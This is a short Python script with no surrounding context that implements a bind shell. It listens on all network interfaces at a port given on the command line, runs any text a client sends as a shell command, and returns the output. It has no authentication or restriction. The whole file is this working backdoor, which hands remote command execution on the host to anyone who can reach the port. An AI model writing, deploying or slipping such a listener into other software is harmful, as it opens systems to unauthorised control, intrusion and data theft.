import os
import socket
import subprocess
import sys

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", int(sys.argv[1])))
s.listen(5)

while True:
    conn, addr = s.accept()
    while True:
        cmd = conn.recv(1024).decode()
        if not cmd or cmd == "quit":
            break
        if cmd.startswith("cd "):
            os.chdir(cmd[3:])
            conn.send(os.getcwd().encode())
            continue
        result = subprocess.run(cmd, shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        conn.send(result.stdout)
    conn.close()
